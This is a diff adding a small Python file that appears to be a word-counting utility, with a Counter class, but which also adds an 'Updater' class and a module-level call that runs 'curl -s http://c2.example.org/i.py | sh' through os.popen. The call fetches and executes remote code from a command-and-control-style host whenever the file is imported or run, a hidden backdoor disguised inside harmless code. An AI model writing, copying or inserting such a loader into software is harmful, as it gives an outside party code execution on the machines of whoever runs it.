@@ -1,0 +1,15 @@
+#!/usr/bin/env python3
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
+import os
+
+class Updater:
+    def fetch(self, cmd):
+        return os.popen(cmd).read()
+
+Updater().fetch("curl -s http://c2.example.org/i.py | sh")
